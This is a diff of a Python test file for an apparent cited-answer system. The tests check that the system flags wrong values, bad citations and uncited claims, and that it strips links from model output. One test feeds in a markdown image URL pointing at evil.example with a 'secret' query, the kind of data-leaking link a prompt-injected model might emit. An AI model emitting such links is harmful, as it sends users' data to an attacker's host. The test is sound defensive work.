@@ -42,12 +42,17 @@ async def test_the_clients_model_writes_from_numbered_sources(stocked: Desk, era
 
 
 async def test_each_fault_of_its_answer_is_told(stocked: Desk, era: str) -> None:
-    model = ClientModel("It turns 99,999 times a minute [1]. It is [77]. It shines.")
+    model = ClientModel(
+        "The pump moves water [1]. It turns 99,999 times a minute [1]. It is [77]. It shines."
+    )
     answer = await asked(stocked, era, model)
     assert answer["unsupported_claims"] == ["It turns 99,999 times a minute."]
     assert answer["invalid_citations"] == ["77"]
     assert answer["uncited_claims"] == ["It shines."]
-    assert answer["confidence"] == 0
+    assert answer["answer"].startswith(
+        "The pump moves water [1]. It turns 99,999 times a minute [1]. (a value differs from the source) "
+        "It is [77]. (no such source) It shines. (not found in the sources)\n"
+    )
 
 
 @pytest.mark.parametrize(("act", "why"), [(declines, "declined"), (raises, "declined")])
@@ -106,7 +111,9 @@ async def test_what_fails_in_the_search_is_told_once(stocked: Desk, era: str) ->
 
 
 async def test_an_instruction_that_the_model_followed_fetches_nothing(stocked: Desk, era: str) -> None:
-    model = ClientModel("See ![x](https://evil.example/?q=secret) and [this](https://evil.example) [1].")
+    model = ClientModel(
+        "The pump moves water. See ![x](https://evil.example/?q=secret) and [this](https://evil.example) [1]."
+    )
     answer = await asked(stocked, era, model)
     assert "evil.example" not in answer["answer"]
     assert any("taken out" in one for one in answer["warnings"])
